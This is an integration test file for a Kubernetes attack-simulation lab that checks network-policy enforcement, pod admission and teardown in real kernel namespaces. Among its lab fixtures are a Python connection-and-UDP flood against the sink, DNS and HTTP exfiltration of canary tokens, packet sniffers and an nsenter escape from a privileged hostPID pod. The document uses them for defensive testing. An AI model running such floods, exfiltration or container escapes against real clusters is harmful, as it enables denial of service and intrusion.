import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { KubeObject } from '../../core/domain/cluster.ts';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PodHandle } from '../../core/domain/cluster.ts';
import { startExec } from '../../core/domain/running-exec.ts';
import { pod } from '../../manifests/pod-builder.ts';
import { SCENE } from '../../manifests/scene.ts';
import { LAB_ADDRESSES } from './addressing.ts';
import { LabCluster } from './lab-cluster.ts';
import { labProfile } from './testing/lab-profile.ts';
import { SC4, SC4_INIT_CONTAINER } from '../../attack-pods/catalogue/sidecar-bypass/sc4.ts';
import { CAPTURE_OPEN_LINE, parseScriptResult } from '../../attack-pods/script-result.ts';
import { CAPTURE_STOP_PORT, stopCommand } from '../../attack-pods/script-stop.ts';
import { composeScript } from '../../attack-pods/script-loader.ts';
import { stackTraits } from '../../core/domain/profile.ts';
import { TIMEOUTS } from '../../core/timeouts.ts';
import { listNetns } from './topology.ts';

/** Real namespaces, real nftables, real processes: needs root (CI runs as root). */
const namespace = (name: string, labels: Record<string, string> = {}) => ({ apiVersion: 'v1', kind: 'Namespace', metadata: { name, labels } });

describe('lab cluster (real kernel)', () => {
  let lab: LabCluster;
  let api: PodHandle;
  let client: PodHandle;

  beforeAll(async () => {
    lab = await LabCluster.create(labProfile('lab:netpol'), { runId: 'it', onProgress: () => undefined });
    await lab.apply([
      namespace('bm-app'),
      namespace('bm-rogue', { 'pod-security.kubernetes.io/enforce': 'baseline' }),
      { apiVersion: 'v1', kind: 'Service', metadata: { name: 'api', namespace: 'bm-app' }, spec: { selector: { app: 'api' }, ports: [{ port: 8080 }] } },
      { apiVersion: 'cilium.io/v2', kind: 'CiliumNetworkPolicy', metadata: { name: 'l7', namespace: 'bm-app' }, spec: {} },
    ]);
    const apiPod = await lab.createPod(
      pod('api', 'bm-app').exposePort(8080).withCommand('python3', '/opt/breachmatrix/workload_server.py', '--name', 'api', '--http-port', '8080').build(),
      { timeoutMs: 10_000 },
    );
    const clientPod = await lab.createPod(pod('client', 'bm-app').runAsUser(1000).build(), { timeoutMs: 10_000 });
    if (apiPod.status !== 'running' || clientPod.status !== 'running') throw new Error('pods did not start');
    api = apiPod.pod;
    client = clientPod.pod;
  });

  afterAll(async () => {
    await lab?.teardown();
  });

  it('places pods on worker nodes with pod-CIDR addresses and runs them as the pod user', async () => {
    expect(api.node).not.toBe(client.node);
    expect(api.ip).toMatch(/^10\.244\.[12]\.\d+$/);
    const id = await client.exec(['id', '-u'], { timeoutMs: 5_000 });
    expect(id.stdout.trim()).toBe('1000');
    // No NET_ADMIN in the default set: changing a route is refused.
    const route = await client.exec(['ip', 'route', 'add', '192.0.2.0/24', 'dev', 'eth0'], { timeoutMs: 5_000 });
    expect(route.exitCode).not.toBe(0);
  });

  it('streams a running command\'s stdout: a marker line is seen while the command still runs', async () => {
    const running = startExec(client, ['sh', '-c', 'echo BM-READY probe; sleep 2; echo done'], { timeoutMs: 10_000 });
    let ended = false;
    void running.result.then(() => (ended = true));
    const wait = await running.waitForLine('BM-READY probe', 5_000);
    expect(wait.status).toBe('seen');
    expect(ended).toBe(false);
    expect((await running.result).stdout).toBe('BM-READY probe\ndone\n');
  });

  it('two sniffers sharing a node\'s network namespace: each stop marker ends only the capture with its token', async () => {
    // Both hostNetwork pods see each other's datagrams on the node's `lo`; a marker with another token is ignored.
    const [first, second] = await Promise.all(
      ['stop-a', 'stop-b'].map((name) => lab.createPod(pod(name, 'bm-app').hostNetwork().onNode(api.node).build(), { timeoutMs: 10_000 })),
    );
    if (first?.status !== 'running' || second?.status !== 'running') throw new Error('hostNetwork pods did not start');
    const tokens = ['0123456789abcdef', 'fedcba9876543210'];
    const env = (token: string) => ({
      CAPTURE_HOST: api.ip,
      CAPTURE_MAX_SECONDS: '12',
      CAPTURE_STOP_PORT: String(CAPTURE_STOP_PORT),
      CAPTURE_STOP_TOKEN: token,
      CANARY: 'bm00aa11bb22cc33ee',
    });
    try {
      const runs = [first.pod, second.pod].map((handle, index) => startExec(handle, ['sh', '-c', composeScript('packet-capture.sh')], { timeoutMs: 20_000, env: env(tokens[index] ?? '') }));
      for (const running of runs) expect((await running.waitForLine(CAPTURE_OPEN_LINE, 5_000)).status).toBe('seen');
      const started = Date.now();
      expect((await first.pod.exec(stopCommand(tokens[0] ?? ''), { timeoutMs: 5_000 })).exitCode).toBe(0);
      const [a, b] = runs;
      const ended = parseScriptResult((await a?.result)?.stdout ?? '', '', 0);
      // Only the marker datagram (not counted) crossed the capture: "1 packet captured" in tcpdump's singular.
      expect([ended.signal, ended.fields.packets]).toEqual(['delivered', 0]);
      expect(Date.now() - started).toBeLessThan(4_000);
      // The other capture saw the first one's marker and runs on.
      expect((await b?.waitForLine('never', 1_000))?.status).toBe('deadline');
      expect((await second.pod.exec(stopCommand(tokens[1] ?? ''), { timeoutMs: 5_000 })).exitCode).toBe(0);
      expect(parseScriptResult((await b?.result)?.stdout ?? '', '', 0).signal).toBe('delivered');
    } finally {
      await Promise.all([first.pod[Symbol.asyncDispose](), second.pod[Symbol.asyncDispose]()]);
    }
  });

  it('lets a pod reach another pod by service name, resolved by the lab kube-dns', async () => {
    const dig = await client.exec(['dig', '+short', 'api.bm-app.svc.cluster.local'], { timeoutMs: 5_000 });
    expect(dig.stdout.trim()).toBe(api.ip);
    const curl = await client.exec(['curl', '-sS', '-m', '3', 'http://api:8080/hello'], { timeoutMs: 5_000 });
    expect(curl.exitCode).toBe(0);
    expect(curl.stdout).toContain('workload=api path=/hello');
  });

  it('forwards the exfil zone to the sink, which records the canary', async () => {
    const canary = 'bm00112233445566ff';
    const dig = await client.exec(['dig', '+short', `${canary}.${SCENE.exfilZone}`], { timeoutMs: 5_000 });
    expect(dig.exitCode).toBe(0);
    const records = await lab.sinkReceived(canary);
    expect(records.map((record) => record.protocol)).toContain('dns');
  });

  it('keeps the sink answering its query API under attacker traffic (held-open connections, garbage, a UDP flood)', async () => {
    const canary = 'bm00112233445566ee';
    const seeded = await client.exec(['curl', '-sS', '-m', '3', `http://${LAB_ADDRESSES.sinkIp}:${SCENE.sink.httpPort}/${canary}`], { timeoutMs: 5_000 });
    expect(seeded.exitCode).toBe(0);
    const flood = [
      'import socket, sys, time',
      'ip = sys.argv[1]; held = []',
      'started = time.time()',
      'for port in (int(sys.argv[2]), int(sys.argv[3])):',
      // Five per port: the sink's listeners keep socketserver's backlog of 5 (more stall on SYN retransmits).
      '    for i in range(5):',
      '        s = socket.create_connection((ip, port), timeout=2)',
      '        if i % 2: s.sendall(b"\\x00\\xff garbage " * 50)',
      '        held.append(s)',
      'u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      'for i in range(3000): u.sendto(b"\\xff" * 1200, (ip, int(sys.argv[4 + i % 2])))',
      'print("holding", len(held), "after", round(time.time() - started, 2), flush=True)',
      'time.sleep(3)',
    ].join('\n');
    const sink = SCENE.sink;
    const [attack, during] = await Promise.all([
      client.exec(['python3', '-c', flood, LAB_ADDRESSES.sinkIp, String(sink.httpPort), String(sink.tcpPort), String(sink.udpPort), String(sink.dnsPort)], { timeoutMs: 15_000 }),
      sleep(1_500).then(() => lab.sinkReceived(canary)),
    ]);
    expect(attack.timedOut).toBe(false);
    expect(attack.stdout).toContain('holding 10 ');
    expect(during.map((record) => record.protocol)).toContain('http');
    expect((await lab.sinkReceived(canary)).length).toBeGreaterThan(0);
  });

  it('records kinds it does not model instead of enforcing them', () => {
    expect(lab.notModelled().map((object) => object.kind)).toEqual(['CiliumNetworkPolicy']);
  });

  it('drops egress under default deny (curl exit 28) and the nft counter names the rule', async () => {
    const canary = 'bm0badc0ffee000001';
    const before = await client.exec(['curl', '-sS', '-m', '3', `http://${LAB_ADDRESSES.sinkIp}:${SCENE.sink.httpPort}/${canary}`], { timeoutMs: 5_000 });
    expect(before.exitCode).toBe(0);
    await lab.apply([
      { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'default-deny', namespace: 'bm-app' }, spec: { podSelector: {}, policyTypes: ['Ingress', 'Egress'] } },
      {
        apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'allow-dns', namespace: 'bm-app' },
        spec: {
          podSelector: {}, policyTypes: ['Egress'],
          egress: [{ to: [{ namespaceSelector: {}, podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } } }], ports: [{ protocol: 'UDP', port: 53 }] }],
        },
      },
    ]);
    const from = new Date();
    const blocked = await client.exec(['curl', '-sS', '--connect-timeout', '1', '-m', '2', `http://${LAB_ADDRESSES.sinkIp}:${SCENE.sink.httpPort}/x${canary}`], { timeoutMs: 5_000 });
    expect(blocked.exitCode).toBe(28);
    const dns = await client.exec(['dig', '+short', '+time=2', 'api.bm-app.svc.cluster.local'], { timeoutMs: 5_000 });
    expect(dns.stdout.trim()).toBe(api.ip);
    const evidence = await lab.collectEvidence({
      window: { from, to: new Date() },
      flow: { protocol: 'http', sourcePod: 'client', sourceNamespace: 'bm-app', destinationIp: '198.51.100.10', destinationPort: 8080 },
    });
    expect(evidence).toHaveLength(1);
    expect(evidence[0]).toMatchObject({ layer: 'cni', source: 'nft-counter', verdict: 'denied', rule: 'bm-app/default-deny,bm-app/allow-dns' });
    expect(evidence[0]?.raw).toContain('bm:deny ns=bm-app pod=client dir=egress');
    // The same counter does not count twice.
    const again = await lab.collectEvidence({ window: { from, to: new Date() }, flow: { protocol: 'http', sourcePod: 'client', sourceNamespace: 'bm-app' } });
    expect(again).toEqual([]);
  });

  it('rejects a hostNetwork pod under PSA baseline with the API server message', async () => {
    const created = await lab.createPod(pod('hostnet', 'bm-rogue').hostNetwork().build(), { timeoutMs: 5_000 });
    expect(created).toEqual({
      status: 'rejected',
      layer: 'admission',
      message: 'pods "hostnet" is forbidden: violates PodSecurity "baseline:latest": host namespaces (hostNetwork=true)',
    });
  });

  it('keeps a privileged pod with hostPID inside the lab: nsenter -t 1 -n lands in the node namespace', async () => {
    await lab.apply([namespace('bm-privileged')]);
    const created = await lab.createPod(pod('escape', 'bm-privileged').privileged().hostPid().build(), { timeoutMs: 5_000 });
    if (created.status !== 'running') throw new Error('privileged pod rejected');
    const addresses = await created.pod.exec(['nsenter', '-t', '1', '-n', 'ip', '-4', '-o', 'addr', 'show', 'eth0'], { timeoutMs: 5_000 });
    const node = (await lab.addresses()).nodes.find((candidate) => candidate.name === created.pod.node);
    expect(addresses.stdout).toContain(`${node?.ip}/16`);
    // The namespace itself, not only its addresses: PID 1's network namespace is the lab node's, never
    // the one the runner lives in.
    const seen = await created.pod.exec(['stat', '-L', '-c', '%d:%i', '/proc/1/ns/net'], { timeoutMs: 5_000 });
    const nodePlan = lab.nodes.find((candidate) => candidate.name === created.pod.node);
    if (nodePlan === undefined) throw new Error(`no lab node ${created.pod.node}`);
    const labNode = statSync(`/run/netns/${lab.names.node(nodePlan.index)}`);
    const host = statSync('/proc/self/ns/net'); // the runner's own: the host's network, for this test
    expect(seen.stdout.trim()).toBe(`${labNode.dev}:${labNode.ino}`);
    expect(seen.stdout.trim()).not.toBe(`${host.dev}:${host.ino}`);
    await created.pod[Symbol.asyncDispose]();
  });

  it('a hostNetwork pod with ClusterFirstWithHostNet resolves services through kube-dns; a node uses the lab resolver, never the host one', async () => {
    await lab.apply([namespace('bm-privileged')]);
    const spec = pod('hostnet-dns', 'bm-privileged').hostNetwork().build();
    const created = await lab.createPod({ ...spec, spec: { containers: [], ...spec.spec, dnsPolicy: 'ClusterFirstWithHostNet' } }, { timeoutMs: 5_000 });
    const plain = await lab.createPod(pod('hostnet-node-dns', 'bm-privileged').hostNetwork().build(), { timeoutMs: 5_000 });
    if (created.status !== 'running' || plain.status !== 'running') throw new Error('hostNetwork pods rejected');
    try {
      const dig = await created.pod.exec(['dig', '+short', '+time=2', '+tries=1', 'api.bm-app.svc.cluster.local'], { timeoutMs: 5_000 });
      expect(dig.stdout.trim()).toBe(api.ip);
      const resolv = await created.pod.exec(['cat', '/etc/resolv.conf'], { timeoutMs: 5_000 });
      expect(resolv.stdout).toContain('search bm-privileged.svc.cluster.local');
      // Default dnsPolicy on the host network: the node's resolv.conf, which names the lab's resolver.
      const nodeResolv = await plain.pod.exec(['cat', '/etc/resolv.conf'], { timeoutMs: 5_000 });
      const kubeDns = /nameserver (\S+)/.exec(resolv.stdout)?.[1];
      expect(nodeResolv.stdout).toBe(`nameserver ${kubeDns}\n`);
      const fqdn = await plain.pod.exec(['dig', '+short', '+time=2', '+tries=1', 'api.bm-app.svc.cluster.local'], { timeoutMs: 5_000 });
      expect(fqdn.stdout.trim()).toBe(api.ip);
    } finally {
      await created.pod[Symbol.asyncDispose]();
      await plain.pod[Symbol.asyncDispose]();
    }
  });

  it('runs an SC4 init container to its result even when the egress is dropped (a 2 s connect timeout, not a hang)', async () => {
    const context = { stack: stackTraits(lab.profile), canary: 'bm00aa11bb22cc33dd', addresses: await lab.addresses() };
    const plan = SC4.attempt(context);
    const started = Date.now();
    const created = await lab.createPod(plan.pod, { timeoutMs: 10_000 });
    if (created.status !== 'running') throw new Error('SC4 pod rejected');
    try {
      expect(Date.now() - started).toBeLessThan(TIMEOUTS.scriptExecMs);
      const result = parseScriptResult(await created.pod.logs(SC4_INIT_CONTAINER), '', 0);
      // bm-app is under default deny since the counter test: the init container's curl times out.
      expect(result.signal).toBe('timeout');
      expect(result.detail).toContain('curl exit 28');
    } finally {
      await created.pod[Symbol.asyncDispose]();
    }
  });

  it('an init container that outlives its budget is killed and logged, and the pod still comes up', async () => {
    const spec = pod('slow-init', 'bm-app').initContainer('attack', 'echo started; sleep 600').build();
    const started = Date.now();
    const created = await lab.createPod(spec, { timeoutMs: 1_000 });
    if (created.status !== 'running') throw new Error('pod rejected');
    try {
      const took = Date.now() - started;
      expect(took).toBeGreaterThanOrEqual(TIMEOUTS.scriptExecMs);
      expect(took).toBeLessThan(TIMEOUTS.scriptExecMs + 5_000);
      const log = await created.pod.logs('attack');
      expect(log).toContain('started\n');
      expect(log).toMatch(/lab: init container attack killed after \d+ ms \(budget 15000 ms\)/);
      expect(parseScriptResult(log, '', 0).signal).toBe('error');
    } finally {
      await created.pod[Symbol.asyncDispose]();
    }
  });

  it('apply starts its pods together, and places them in the order of the objects', async () => {
    const meeting = mkdtempSync(join(tmpdir(), 'bm-apply-'));
    // Each init container says it is there, then waits (at most 5 s) for all three: only pods started together meet.
    const meet = `touch ${meeting}/$HOSTNAME; for i in $(seq 50); do [ "$(ls ${meeting} | grep -vc result)" -ge 3 ] && { echo together > ${meeting}/$HOSTNAME.result; exit 0; }; sleep 0.1; done; echo alone > ${meeting}/$HOSTNAME.result`;
    const names = ['meet-a', 'meet-b', 'meet-c'];
    try {
      await lab.apply(names.map((name) => pod(name, 'bm-app').initContainer('meet', meet).build() as unknown as KubeObject));
      for (const name of names) expect(readFileSync(join(meeting, `${name}.result`), 'utf8').trim()).toBe('together');
      const { workloads } = await lab.addresses();
      const nodes = names.map((name) => workloads[`bm-app/${name}`]?.node);
      // Workers are dealt in turn, in the order the objects were given.
      expect(nodes[0]).toBeDefined();
      expect(nodes[1]).not.toBe(nodes[0]);
      expect(nodes[2]).toBe(nodes[0]);
    } finally {
      // The pods stay until the teardown below, which checks that nothing of them is left.
      rmSync(meeting, { recursive: true, force: true });
    }
  });

  it('teardown leaves no namespace, /etc/netns dir or process behind', async () => {
    const name = lab.name;
    await lab.teardown();
    await lab.teardown();
    // An attempt still in flight gets told why the sink is gone, not a bare "Cannot open network namespace".
    await expect(lab.sinkReceived('bm0000000000000000')).rejects.toThrow(`lab ${name} was torn down while an attempt still queried its sink`);
    expect((await listNetns()).filter((ns) => ns.startsWith(name))).toEqual([]);
    expect(readdirSync('/etc/netns', { withFileTypes: true }).filter((entry) => entry.name.startsWith(name))).toEqual([]);
    const procs = readdirSync('/proc').filter((entry) => /^\d+$/.test(entry));
    const holders = procs.filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(name);
      } catch {
        return false;
      }
    });
    expect(holders).toEqual([]);
  });
});
